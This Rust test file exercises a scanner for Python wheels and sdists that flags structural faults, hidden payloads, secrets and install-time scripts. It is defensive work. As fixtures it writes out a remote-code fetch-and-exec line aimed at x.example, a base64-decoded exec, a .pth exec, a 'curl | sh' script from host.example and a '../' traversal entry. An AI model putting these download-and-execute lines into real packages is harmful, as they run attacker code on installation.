use base64::Engine as _;
use gate_archive::forge::{TarEntry, TarGz, Zip, ZipEntry, sdist, wheel};
use gate_core::digest::Sha256;
use gate_core::finding::{Category, FileRole};
use gate_core::report::DistributionKind;
use gate_core::severity::Severity;
use gate_scanner::scan::{Skip, WHOLE_ARCHIVE};
use gate_scanner::{Options, ScanError};

use crate::{class, rules, scan, scan_with, up_to};

#[test]
fn an_honest_wheel_is_covered_file_by_file_without_a_finding() {
    let report = scan(
        &wheel("Demo.Pkg", "1.0")
            .requires("flask==3.0.3")
            .file("demo_pkg/__init__.py", "\"\"\"Nothing.\"\"\"\n")
            .file("demo_pkg/logo.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR")
            .file("demo_pkg/_core.so", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0")
            .file("demo_pkg/de.txt", "Grüße\n")
            .build(),
    );
    assert_eq!(rules(&report), Vec::<&str>::new());
    let rows: Vec<_> = report.coverage.iter().map(|file| file.path.as_str()).collect();
    assert_eq!(
        rows,
        [
            "demo_pkg/__init__.py",
            "demo_pkg/logo.png",
            "demo_pkg/_core.so",
            "demo_pkg/de.txt",
            "demo_pkg-1.0.dist-info/METADATA",
            "demo_pkg-1.0.dist-info/WHEEL",
            "demo_pkg-1.0.dist-info/RECORD"
        ]
    );
    assert_eq!(class(&report, "demo_pkg/__init__.py"), "analysed python");
    assert_eq!(class(&report, "demo_pkg/logo.png"), "inert image/png");
    assert_eq!(class(&report, "demo_pkg/_core.so"), "opaque native");
    assert_eq!(class(&report, "demo_pkg/de.txt"), "inert text");
    let distribution = report.distribution.unwrap();
    assert_eq!((distribution.kind, distribution.name.as_str()), (DistributionKind::Wheel, "Demo.Pkg"));
    assert_eq!(distribution.tags, ["py3-none-any"]);
    assert_eq!(report.pins.len(), 1);
    assert!(report.pins[0].installed);
    for analyzer in ["archive", "python", "pickle", "secrets", "install-time", "notebook"] {
        assert!(report.analyzers.iter().any(|name| name == analyzer), "{analyzer}");
    }
}

/// For every rule about structure an archive that breaks it, and only it. The honest wheel above breaks none.
fn broken() -> Vec<(&'static str, Vec<u8>)> {
    let demo = || wheel("demo", "1.0").file("demo.py", "x = 1\n");
    let metadata =
        |from: &'static str, to: &'static str| demo().metadata(move |text| *text = text.replace(from, to)).build();
    vec![
        ("record-missing", demo().record(String::clear).build()),
        ("record-mismatch", demo().record(|text| *text = text.replace("demo.py,sha256=", "demo.py,sha256=A")).build()),
        ("record-unlisted-file", demo().zip().file("evil.txt", "x").build()),
        ("record-absent-file", demo().record(|record| record.push_str("gone.py,sha256=AA,1\n")).build()),
        ("record-unreadable", demo().record(|record| record.push_str("a,b,c,d,e\n")).build()),
        ("several-dist-info", demo().file("other-1.dist-info/WHEEL", "").build()),
        ("dist-info-mismatch", metadata("Name: demo", "Name: other")),
        ("metadata-incomplete", metadata("Version: 1.0", "Version: newest")),
        ("metadata-ambiguous", metadata("Name: demo", "Name: demo\nName: other")),
        ("bytecode-without-source", demo().file("__pycache__/other.cpython-312.pyc", PYC).build()),
    ]
}

/// How the compiled Python of 3.12 begins.
const PYC: &[u8] = b"\xcb\x0d\x0d\x0a\0\0\0\0\0\0\0\0\0\0\0\0\xe3";

#[test]
fn bytecode_beside_its_source_is_listed_only() {
    for path in ["__pycache__/demo.cpython-312.pyc", "demo.pyc"] {
        let report = scan(&wheel("demo", "1.0").file("demo.py", "x = 1\n").file(path, PYC).build());
        assert_eq!(rules(&report), [""; 0], "{path}");
        assert_eq!(report.counts().opaque, 1);
    }
}

#[test]
fn every_rule_about_structure_fires_on_its_example_alone() {
    let broken = broken();
    let mut covered: Vec<_> = broken.iter().map(|(rule, _)| *rule).collect();
    let mut rules_known: Vec<_> = gate_scanner::structure::RULES.iter().map(|rule| rule.id).collect();
    covered.sort_unstable();
    rules_known.sort_unstable();
    assert_eq!(covered, rules_known);
    for (rule, bytes) in broken {
        let report = scan(&bytes);
        assert_eq!(rules(&report), [rule]);
        let expected = if rule == "record-absent-file" { Severity::Low } else { Severity::High };
        assert_eq!(report.findings[0].severity, expected);
        assert!(!report.findings[0].remedy.is_empty() && !report.findings[0].references.is_empty());
    }
}

#[test]
fn a_directory_before_the_files_hides_no_wheel() {
    // The guess from the end of the file fails: the end is a megabyte of another member's name in the directory.
    let mut zip =
        wheel("demo", "1.0").file("demo.py", "x = 1\n").record(|record| *record = record.replace("=", "=A")).zip();
    for n in 0..1500 {
        zip = zip.file(format!("{}/{n}", ["x".repeat(200), "y".repeat(200), "z".repeat(200)].join("/")), "");
    }
    let report = scan(&zip.build());
    assert!(rules(&report).contains(&"record-mismatch"));
    assert!(report.findings.iter().all(|finding| finding.location.as_ref().is_none_or(|place| place.installed)));
}

#[test]
fn roles_in_an_sdist_follow_from_pyproject_wherever_it_stands() {
    let evil = "import urllib.request\nexec(urllib.request.urlopen('https://x.example/p').read())\n";
    let build = "[build-system]\nrequires = ['wheel==0.1']\nbuild-backend = 'hooks'\nbackend-path = ['docs']\n";
    let report = scan(&sdist("demo", "1.0").file("docs/hooks.py", evil).file("pyproject.toml", build).build());
    let place = report.findings.iter().find_map(|finding| finding.location.as_ref()).unwrap();
    assert_eq!(
        (place.path.as_str(), place.role, place.installed),
        ("demo-1.0/docs/hooks.py", FileRole::InstallTime, true)
    );
    let distribution = report.distribution.unwrap();
    assert_eq!(
        (distribution.kind, distribution.build_requires),
        (DistributionKind::Sdist, vec!["wheel==0.1".to_owned()])
    );
    assert!(report.pins.iter().all(|pin| !pin.installed) && report.pins.len() == 1);

    let report = scan(&sdist("demo", "1.0").file("docs/hooks.py", evil).build());
    let place = report.findings.iter().find_map(|finding| finding.location.as_ref()).unwrap();
    assert_eq!((place.role, place.installed), (FileRole::Supporting, false));
}

#[test]
fn a_hostile_archive_is_a_finding_and_a_limit_is_lost_coverage() {
    let report = scan(&Zip::new().file("a.py", "").file("../b.py", "").build());
    assert_eq!(rules(&report), ["parent-segment"]);
    assert_eq!((report.findings[0].category, report.findings[0].severity), (Category::Archive, Severity::High));
    assert_eq!(report.counts().lost, 1);
    assert!(report.distribution.is_none());

    let bytes = Zip::new().file("a.txt", "ab").file("b.txt", "c").build();
    for (total, lost) in [(2, 1), (3, 0), (4, 0)] {
        let report = scan_with(&bytes, &up_to(total)).unwrap();
        assert_eq!((report.counts().lost, report.findings.len()), (lost, 0), "{total}");
    }
    let empty = scan(&Zip::new().directory("a").build());
    assert_eq!(class(&empty, WHOLE_ARCHIVE), "lost unparsable");
}

#[test]
fn what_is_no_archive_is_named_for_what_it_is() {
    for (bytes, what) in [
        (&b"<!DOCTYPE html><title>Sign in</title>"[..], "an HTML page"),
        (b"%PDF-1.7", "a PDF"),
        (b"", "an empty file"),
        (b"{}", "a JSON document"),
    ] {
        match scan_with(bytes, &Options::default()) {
            Err(ScanError::NotAnArchive { what: found }) => assert_eq!(found, what),
            other => panic!("{other:?}"),
        }
    }
}

#[test]
fn bytes_of_another_digest_are_not_scanned() {
    let bytes = Zip::new().file("a.txt", "a").build();
    let result = gate_scanner::scan(std::io::Cursor::new(&bytes), Sha256::of(b"other"), &Options::default(), &|_| {});
    assert!(matches!(result, Err(ScanError::OtherBytes { actual }) if actual == Sha256::of(&bytes)));
}

#[test]
fn bytes_that_cannot_be_had_are_lost() {
    let encrypted = ZipEntry::file("a.py", "x = 1\n").both(|header| header.flags |= 1);
    let packed = ZipEntry::file("b.py", "x = 1\n").both(|header| header.method = 12);
    let report = scan(&Zip::new().entry(encrypted).entry(packed).build());
    assert_eq!(class(&report, "a.py"), "lost encrypted");
    assert_eq!(class(&report, "b.py"), "lost unknown-method");
}

#[test]
fn a_payload_is_seen_wherever_it_hides() {
    let evil = "import os\nimport base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n";
    let report = scan(
        &Zip::new()
            .file("t/a.py", evil)
            .file("t/noextension", evil)
            .file("t/data.txt", evil)
            .file("t/data.json", utf16(evil))
            .file("t/run", format!("#!/usr/bin/env python\n{evil}"))
            .file("evil.pth", "import os; exec('x')\n")
            .build(),
    );
    for path in ["t/a.py", "t/noextension", "t/data.txt", "t/data.json", "t/run", "evil.pth"] {
        assert!(class(&report, path).starts_with("analysed "), "{path}: {}", class(&report, path));
        let found =
            report.findings.iter().any(|finding| finding.location.as_ref().is_some_and(|place| place.path == path));
        assert!(found, "{path}: {:#?}", rules(&report));
    }
}

#[test]
fn text_that_only_mentions_imports_stays_text() {
    let report = scan(&Zip::new().file("README.rst", "Use it\n\nimport os\n\nand then: run *this*.\n").build());
    assert_eq!(class(&report, "README.rst"), "inert text");
    assert_eq!(rules(&report), Vec::<&str>::new());
}

/// A DER sequence of noise, which is what a private key looks like from outside.
fn private_key() -> String {
    let noise = (0..1200_u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 11) as u8);
    let der: Vec<u8> = [0x30, 0x82, 0x04, 0xb0].into_iter().chain(noise).collect();
    let body = base64::engine::general_purpose::STANDARD.encode(der);
    format!("-----BEGIN RSA PRIVATE KEY-----\n{body}\n-----END RSA PRIVATE KEY-----\n")
}

#[test]
fn source_above_the_limit_is_lost_and_still_searched() {
    let key = private_key();
    for (size, expected) in [
        (gate_scanner::python::MAX_BYTES - 1, "analysed python"),
        (gate_scanner::python::MAX_BYTES, "analysed python"),
        (gate_scanner::python::MAX_BYTES + 1, "lost limit"),
    ] {
        let line = format!("# {}\n", "x".repeat(97));
        let mut source = line.repeat(size / line.len() + 1);
        source.truncate(size);
        assert_eq!(class(&scan(&Zip::new().stored("a.py", source).build()), "a.py"), expected, "{size}");
    }
    let large = format!("{}{key}", "x = 1234\n".repeat(400_000));
    let report = scan(&Zip::new().stored("a.py", &large).stored("a.txt", &large).build());
    let secrets: Vec<_> = report.findings.iter().filter(|finding| finding.category == Category::Secret).collect();
    let lines: Vec<_> = secrets.iter().filter_map(|finding| finding.location.as_ref()?.line).collect();
    assert_eq!(lines, [400_001, 400_001], "{report:#?}");
}

#[test]
fn a_secret_on_the_border_of_two_windows_is_found_once() {
    let key = private_key();
    for cut in [10, 40, 700, key.len() - 5, key.len() + 5] {
        let lines = (gate_scanner::scan::WINDOW - cut) / 2;
        let text = format!("{}{key}{}", "x\n".repeat(lines), "y\n".repeat(1000));
        for (path, bytes) in [("a.cfg", text.clone().into_bytes()), ("b.txt", utf16(&text))] {
            let report = scan(&Zip::new().stored(path, bytes).build());
            let found: Vec<_> = report.findings.iter().filter_map(|finding| finding.location.as_ref()?.line).collect();
            assert_eq!(found, [lines as u32 + 1], "{path} {cut}: {:#?}", report.findings);
        }
    }
}

fn utf16(text: &str) -> Vec<u8> {
    std::iter::once(0xfeff).chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect()
}

#[test]
fn a_link_is_no_way_to_be_read_more_kindly() {
    let tar = TarGz::new()
        .file("d/notes.txt", "not python (\n")
        .symlink("d/setup.py", "notes.txt")
        .symlink("d/README", "notes.txt")
        .file("d/tests/t.py", "x = 1\n")
        .entry(TarEntry::hard_link("d/hooks.py", "d/tests/t.py"))
        .build();
    let report = scan(&tar);
    assert_eq!(class(&report, "d/setup.py"), "lost unparsable");
    assert_eq!(class(&report, "d/README"), "inert link");
    assert_eq!(class(&report, "d/hooks.py"), "lost unparsable");
}

#[test]
fn a_skipped_member_is_lost_and_the_others_are_not() {
    let bytes = wheel("demo", "1.0").file("a.py", "x = 1\n").file("b.py", "x = 2\n").build();
    let skip = vec![Skip { path: "a.py".to_owned(), detail: "it died".to_owned() }];
    let report = scan_with(&bytes, &Options { skip, ..Options::default() }).unwrap();
    assert_eq!(class(&report, "a.py"), "lost analyzer-died");
    assert_eq!(class(&report, "b.py"), "analysed python");
    assert_eq!(rules(&report), Vec::<&str>::new(), "it is hashed all the same");
}

#[test]
fn more_findings_than_the_limit_are_lost_coverage() {
    let bytes = Zip::new().file("a/x.pth", "import os\n").file("b/x.pth", "import os\n").build();
    let count = scan(&bytes).findings.len();
    assert!(count >= 2);
    for (findings, lost) in [(count - 1, 1), (count, 0), (count + 1, 0)] {
        let report = scan_with(&bytes, &Options { findings, ..Options::default() }).unwrap();
        assert_eq!((report.findings.len(), report.counts().lost), (findings.min(count), lost));
    }
}

#[test]
fn the_same_bytes_give_the_same_report() {
    let bytes = wheel("demo", "1.0").file("a.py", "import os\nos.system('x')\n").file("x.pth", "import os\n").build();
    let [a, b] = [scan(&bytes), scan(&bytes)].map(|report| serde_json::to_string(&report).unwrap());
    assert_eq!(a, b);
}

#[test]
fn scripts_are_searched_and_opaque_all_the_same() {
    let fetch = ["cu", "rl -s https://host.example/x | ", "sh\n"].concat();
    let path = "demo-1.0.data/scripts/post.sh";
    let report = scan(&wheel("demo", "1.0").file(path, &*fetch).build());
    assert_eq!(rules(&report), ["script-download-execute"]);
    assert_eq!(report.findings[0].severity, Severity::High);
    assert_eq!(class(&report, path), "opaque other-source");
    let report = scan(&sdist("demo", "1.0").file("ci/post.sh", &*fetch).build());
    assert_eq!(rules(&report), ["development-script-download"]);
}

#[test]
fn a_script_that_is_too_large_is_lost() {
    let most = gate_scanner::scripts::MAX_BYTES;
    for (size, expected) in [(most - 1, "opaque other-source"), (most, "opaque other-source"), (most + 1, "lost limit")]
    {
        let script = "true\n".repeat(size / 5 + 1);
        let report = scan(&wheel("demo", "1.0").file("demo/a.sh", &script[..size]).build());
        assert_eq!(class(&report, "demo/a.sh"), expected, "{size}");
    }
}
